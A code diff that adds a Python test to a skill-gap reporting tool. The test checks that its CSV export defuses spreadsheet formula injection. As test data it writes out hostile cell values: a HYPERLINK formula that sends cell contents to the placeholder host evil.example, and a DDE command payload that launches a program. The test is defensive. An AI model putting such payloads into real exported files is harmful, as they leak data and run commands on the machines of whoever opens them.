@@ -6,6 +6,8 @@ below were worked out by hand from it.
 
 from __future__ import annotations
 
+import csv
+import io
 import json
 from datetime import date
 from pathlib import Path
@@ -155,3 +157,26 @@ def test_cli_report_in_every_format(store: ox.Store, tmp_path: Path) -> None:
         assert "Lire un plan" in out.read_text(encoding="utf-8")
     bad = runner.invoke(app, [*base, "--territory", "planet:earth"], env=env)
     assert bad.exit_code == 1 and "territory" in bad.output
+
+
+def test_csv_report_neutralises_formulas() -> None:
+    """OWASP CSV injection: a text cell starting with = + - @ TAB or CR is written with a leading
+    quote, so that a spreadsheet shows it instead of running it; numbers stay numbers."""
+    graph = load_fixture(ox.Store())
+    skos_label = ox.NamedNode("http://www.w3.org/2004/02/skos/core#prefLabel")
+    hostile = {
+        "2": '=HYPERLINK("http://evil.example/?leak="&A1,"Lire un plan")',
+        "3": "@SUM(1+1)*cmd|' /C calc'!A0",
+        "1": "-2+3",
+        "4": "\tBanchage",
+    }
+    for code, label in hostile.items():
+        skill = ox.NamedNode(f"{TEST_BASE}id/competence/{code}")
+        for quad in list(graph.quads_for_pattern(skill, skos_label, None)):
+            graph.remove(quad)
+        graph.add(ox.Quad(skill, skos_label, ox.Literal(label, language="fr")))
+    report = trade_gaps(graph, TRADE, TEST_BASE)
+    rows = list(csv.DictReader(io.StringIO(RENDERERS["csv"]([report]))))
+    assert {r["skill_code"]: r["skill_label"] for r in rows} == {c: "'" + v for c, v in hostile.items()}
+    assert all(not r[k].startswith(("=", "+", "-", "@", "\t", "\r")) for r in rows for k in r)
+    assert [float(r["demand"]) for r in rows] == [0.36, 0.32, 0.22, 0.18]
